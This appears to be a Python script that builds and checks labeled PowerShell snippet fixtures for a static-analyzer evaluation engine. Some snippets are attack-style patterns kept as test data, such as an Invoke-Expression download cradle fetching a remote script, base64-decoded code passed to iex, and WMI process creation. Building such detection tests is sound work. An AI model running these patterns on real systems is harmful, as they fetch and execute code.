#!/usr/bin/env python3
"""Build the committed snippet fixtures and verify them against the engine.

Writes fixtures/histogram_snippets.jsonl (diagnostic counts fixture) and
fixtures/labeled_snippets.jsonl (100 snippets labeled with the expected
static-analyzer outcome). Labels record the real analyzer's documented
behavior; a handful intentionally diverge from this engine's output and
are marked so the fidelity test can report honest agreement rates.
"""

from __future__ import annotations

import json
import sys
from collections import Counter
from pathlib import Path

from redshell_eval.diagnostics import Severity
from redshell_eval.lexer import tokenize
from redshell_eval.lint import analyze
from redshell_eval.parser import has_parse_error, parse

ROOT = Path(__file__).resolve().parents[1]

HISTOGRAM_SNIPPETS = [
    # 13 Invoke-Expression via alias (each: alias + invoke-expression warning)
    "iex $payload",
    "iex $command",
    "iex (Get-Content C:\\temp\\cmd.txt)",
    "iex 'Get-Date'",
    "iex $env:PAYLOAD",
    "iex (New-Object Net.WebClient).DownloadString('http://files.internal/x.ps1')",
    "iex ([System.Text.Encoding]::ASCII.GetString($bytes))",
    "iex $script; Get-Date",
    'iex "$cmd --flag"',
    "iex $down",
    "iex $x",
    "iex $y",
    "iex $z",
    # 6 assigned-but-unused variables
    "$staging = 'C:\\temp'",
    "$creds = Get-Credential",
    "$out = Get-Process",
    '$target = "10.0.0.5"',
    "$list = @(1, 2, 3)",
    "$name = $env:USERNAME",
    # 5 WMI cmdlets
    "Get-WmiObject Win32_Process",
    "Get-WmiObject -Class Win32_Service",
    "Invoke-WmiMethod -Class Win32_Process -Name Create",
    "Register-WmiEvent -Query 'SELECT * FROM __InstanceCreationEvent'",
    "Remove-WmiObject -Class Win32_Share",
    # 2 hardcoded ComputerName
    'Invoke-Command -ComputerName "WEB01" -ScriptBlock {whoami}',
    "Get-Service -ComputerName FILESRV02",
    # 3 UnexpectedToken
    "}",
    ")",
    "| Select-Object Name",
    # 1 MissingEndParenthesisInMethodCall
    "[System.Convert]::FromBase64String('Cmd'",
    # 1 MissingEndParenthesisInExpression
    "Write-Output (1 + 2",
    # 1 UnexpectedCharactersAfterHereStringHeader
    'Write-Output @"payload',
]

EXPECTED_HISTOGRAM = {
    "PSAvoidUsingCmdletAliases": 13,
    "PSAvoidUsingInvokeExpression": 13,
    "PSUseDeclaredVarsMoreThanAssignments": 6,
    "PSAvoidUsingWMICmdlet": 5,
    "PSAvoidUsingComputerNameHardcoded": 2,
    "UnexpectedToken": 3,
    "MissingEndParenthesisInMethodCall": 1,
    "MissingEndParenthesisInExpression": 1,
    "UnexpectedCharactersAfterHereStringHeader": 1,
}

ALIAS = "PSAvoidUsingCmdletAliases"
IEXPR = "PSAvoidUsingInvokeExpression"
VARS = "PSUseDeclaredVarsMoreThanAssignments"
WMI = "PSAvoidUsingWMICmdlet"
CNAME = "PSAvoidUsingComputerNameHardcoded"

# (snippet, parse_error, [rules], engine_divergence_expected)
LABELED: list[tuple[str, bool, list[str], bool]] = [
    # clean one-liners
    ("Get-Process", False, [], False),
    ("Get-Service | Where-Object {$_.Status -eq 'Running'}", False, [], False),
    ("Get-ChildItem C:\\Users -Recurse", False, [], False),
    ("Get-Date; Get-Host", False, [], False),
    ("(Get-Process).Count", False, [], False),
    ("Get-Content C:\\Windows\\win.ini", False, [], False),
    ("$p = Get-Process; $p | Select-Object -First 5", False, [], False),
    ("Get-LocalUser | Select-Object Name", False, [], False),
    ("Test-Connection -ComputerName $target -Count 1", False, [], False),
    ("Get-NetTCPConnection -State Listen", False, [], False),
    ("whoami", False, [], False),
    ("Get-FileHash -Algorithm SHA256 tool.zip", False, [], False),
    ("Stop-Service -Name Spooler", False, [], False),
    ("New-Item -ItemType Directory -Path C:\\logs", False, [], False),
    ("Get-EventLog -LogName System -Newest 5", False, [], False),
    (
        "[System.Convert]::ToBase64String([System.Text.Encoding]::Unicode.GetBytes('Get-Date'))",
        False,
        [],
        False,
    ),
    ('powershell.exe -c "Get-Date"', False, [], False),
    ("Get-CimInstance Win32_OperatingSystem", False, [], False),
    ("$env:PATH", False, [], False),
    ("Get-Process | Sort-Object CPU -Descending | Select-Object -First 3", False, [], False),
    ("Resolve-DnsName example.internal", False, [], False),
    ("Get-ScheduledTask", False, [], False),
    ("Copy-Item a.txt -Destination b.txt", False, [], False),
    ("$h = @{Name='x'}; Write-Output $h", False, [], False),
    ("foreach ($s in $services) { Stop-Service $s }", False, [], False),
    ("Get-Item -Path 'C:\\Program Files'", False, [], False),
    ("Get-Counter '\\Processor(_Total)\\% Processor Time'", False, [], False),
    ("Start-Sleep -Seconds 5", False, [], False),
    ("Get-Host", False, [], False),
    ("Get-Culture", False, [], False),
    ("Get-Random -Maximum 10", False, [], False),
    # alias usage
    ("gps", False, [ALIAS], False),
    ("dir C:\\", False, [ALIAS], False),
    ("cat C:\\Windows\\win.ini", False, [ALIAS], False),
    ("rm C:\\temp\\old.log", False, [ALIAS], False),
    ("gci -Recurse C:\\Users", False, [ALIAS], False),
    ("gc secrets.txt", False, [ALIAS], False),
    ("Get-Process | ft Name, CPU", False, [ALIAS], False),
    ("Get-Process | fl *", False, [ALIAS], False),
    ("iwr http://files.internal/a.zip", False, [ALIAS], False),
    ("ls C:\\Users", False, [ALIAS], False),
    ("Get-Process | select Name", False, [ALIAS], False),
    ("sal np notepad.exe", False, [ALIAS], False),
    # Invoke-Expression
    ("iex $payload", False, [ALIAS, IEXPR], False),
    ("iex (Get-Content cmd.ps1)", False, [ALIAS, IEXPR], False),
    ("iex $env:CMD", False, [ALIAS, IEXPR], False),
    ("Invoke-Expression $code", False, [IEXPR], False),
    ("Invoke-Expression (Get-Clipboard)", False, [IEXPR], False),
    ('Invoke-Expression "Get-Date"', False, [IEXPR], False),
    ("iex $a; iex $b", False, [ALIAS, IEXPR], False),
    ("$cmd = 'Get-Date'; iex $cmd", False, [ALIAS, IEXPR], False),
    (
        "iex ([System.Text.Encoding]::UTF8.GetString([System.Convert]::FromBase64String($b64)))",
        False,
        [ALIAS, IEXPR],
        False,
    ),
    # WMI cmdlets
    ("Get-WmiObject Win32_Process", False, [WMI], False),
    ("Get-WmiObject -Class Win32_BIOS", False, [WMI], False),
    (
        "Invoke-WmiMethod -Class Win32_Process -Name Create -ArgumentList 'calc.exe'",
        False,
        [WMI],
        False,
    ),
    (
        "Register-WmiEvent -Query 'SELECT * FROM Win32_ProcessStartTrace'",
        False,
        [WMI],
        False,
    ),
    (
        "Set-WmiInstance -Class Win32_Environment -Arguments @{Name='a'; VariableValue='b'; UserName='c'}",
        False,
        [WMI],
        False,
    ),
    ("Remove-WmiObject -Class Win32_Share", False, [WMI], False),
    # hardcoded ComputerName
    ('Invoke-Command -ComputerName "WEB01" -ScriptBlock {whoami}', False, [CNAME], False),
    ("Get-Service -ComputerName FILESRV02", False, [CNAME], False),
    (
        "Invoke-Command -ComputerName 'DC01' -ScriptBlock {Get-ADUser -Filter *}",
        False,
        [CNAME],
        False,
    ),
    ('Get-EventLog -LogName Security -ComputerName "HR-PC-7"', False, [CNAME], False),
    ('Restart-Computer -ComputerName "WKS-42" -Force', False, [CNAME], False),
    ("Invoke-Command -ComputerName $target -ScriptBlock {whoami}", False, [], False),
    ("Invoke-Command -ComputerName localhost -ScriptBlock {Get-Date}", False, [], False),
    ("Get-Service -ComputerName .", False, [], False),
    ('Invoke-Command -ComputerName "127.0.0.1" -ScriptBlock {hostname}', False, [], False),
    # assigned but never used
    ("$a = 5", False, [VARS], False),
    ("$staging = 'C:\\temp\\out'", False, [VARS], False),
    ("$creds = Get-Credential", False, [VARS], False),
    ("$old = $env:TEMP", False, [VARS], False),
    ("$x = (Get-Process).Count", False, [VARS], False),
    ("$result = Invoke-RestMethod http://api.internal/status", False, [VARS], False),
    ("$flag = $true; Get-Date", False, [VARS], False),
    ("$dump = Get-ChildItem C:\\Users -Recurse", False, [VARS], False),
    # assigned and used
    ("$p = Get-Process; Write-Output $p", False, [], False),
    ('$path = "C:\\tmp"; Write-Output "saving to $path"', False, [], False),
    ("$i = 0; $i = $i + 1", False, [], False),
    ("$svc = Get-Service Spooler; $svc.Status", False, [], False),
    ("$n = 3; Start-Sleep -Seconds $n", False, [], False),
    # parse errors
    ("}", True, [], False),
    (")", True, [], False),
    ("| Select-Object Name", True, [], False),
    ("Get-Process | ", True, [], False),
    ("$x = (1 + 2", True, [VARS], False),
    ("Write-Output (5 * (3 + 1", True, [], False),
    ("[System.Convert]::FromBase64String('Cmd'", True, [], False),
    ("$data.Substring(0, 4", True, [], False),
    ('Write-Output @"dump', True, [], False),
    ("Get-Process }", True, [], False),
    # combinations
    ("iex 'whoami'; $log = 'audit.txt'", False, [ALIAS, IEXPR, VARS], False),
    ("Get-WmiObject Win32_BIOS | % {$_.Name}", False, [WMI, ALIAS], False),
    (
        "Invoke-Command -ComputerName SRV01 -ScriptBlock {iex $x}",
        False,
        [CNAME, ALIAS, IEXPR],
        False,
    ),
    ("iex $cmd; (1 + 2", True, [ALIAS, IEXPR], False),
    ("gps | select Name; $tmp = 1", False, [ALIAS, VARS], False),
    # cases labeled with the reference analyzer's behavior where this
    # engine is known to diverge (expandable-string subexpressions,
    # expression-position aliases, incomplete-expression parse errors)
    ('$out = "count: $(gps | measure)"', False, [ALIAS, VARS], True),
    ('"$(iex $remote)" | Out-Null', False, [ALIAS, IEXPR], True),
    ("foreach ($svc in gps) { $svc.Name }", False, [ALIAS], True),
    ("$total = 1 +", True, [VARS], True),
    ("Get-Process -", True, [], True),
]


def engine_outcome(snippet: str):
    tokens, lex_diags = tokenize(snippet)
    ast, parse_diags = parse(tokens)
    lint_diags = analyze(ast, tokens)
    all_diags = lex_diags + parse_diags + lint_diags
    rules = sorted({d.rule.value for d in all_diags if d.severity is not Severity.PARSE_ERROR})
    return has_parse_error(all_diags), rules, all_diags


def build_histogram() -> None:
    counts: Counter = Counter()
    records = []
    for i, snippet in enumerate(HISTOGRAM_SNIPPETS, start=1):
        _, _, diags = engine_outcome(snippet)
        counts.update(d.rule.value for d in diags)
        records.append({"id": f"hist-{i:02d}", "snippet": snippet})
    if dict(counts) != EXPECTED_HISTOGRAM:
        print("histogram mismatch:", file=sys.stderr)
        for rule in sorted(set(counts) | set(EXPECTED_HISTOGRAM)):
            print(f"  {rule}: got {counts.get(rule, 0)} want {EXPECTED_HISTOGRAM.get(rule, 0)}",
                  file=sys.stderr)
        sys.exit(1)
    out = ROOT / "fixtures" / "histogram_snippets.jsonl"
    out.write_text("".join(json.dumps(r) + "\n" for r in records), encoding="utf-8")
    print(f"wrote {out} ({len(records)} snippets, {sum(counts.values())} diagnostics)")


def build_labeled() -> None:
    assert len(LABELED) == 100, f"need exactly 100 snippets, have {len(LABELED)}"
    records = []
    parse_agree = 0
    rule_agree: Counter = Counter()
    divergence_surprises = []
    for i, (snippet, parse_error, rules, divergent) in enumerate(LABELED, start=1):
        got_pe, got_rules, _ = engine_outcome(snippet)
        matches = got_pe == parse_error and sorted(rules) == got_rules
        if divergent and matches:
            divergence_surprises.append((snippet, "expected divergence but engine agrees"))
        if not divergent and not matches:
            divergence_surprises.append(
                (snippet, f"labels pe={parse_error} rules={sorted(rules)}; "
                          f"engine pe={got_pe} rules={got_rules}")
            )
        parse_agree += got_pe == parse_error
        for rule in (ALIAS, IEXPR, VARS, WMI, CNAME):
            rule_agree[rule] += (rule in rules) == (rule in got_rules)
        records.append(
            {
                "id": f"fid-{i:03d}",
                "snippet": snippet,
                "parse_error": parse_error,
                "rules": sorted(rules),
            }
        )
    n = len(records)
    print(f"parse-error presence agreement: {parse_agree}/{n}")
    for rule, agree in sorted(rule_agree.items()):
        print(f"  {rule}: {agree}/{n}")
    if divergence_surprises:
        print("unexpected divergences:", file=sys.stderr)
        for snippet, detail in divergence_surprises:
            print(f"  {snippet!r}: {detail}", file=sys.stderr)
        sys.exit(1)
    out = ROOT / "fixtures" / "labeled_snippets.jsonl"
    out.write_text("".join(json.dumps(r) + "\n" for r in records), encoding="utf-8")
    print(f"wrote {out} ({n} snippets)")


if __name__ == "__main__":
    build_histogram()
    build_labeled()
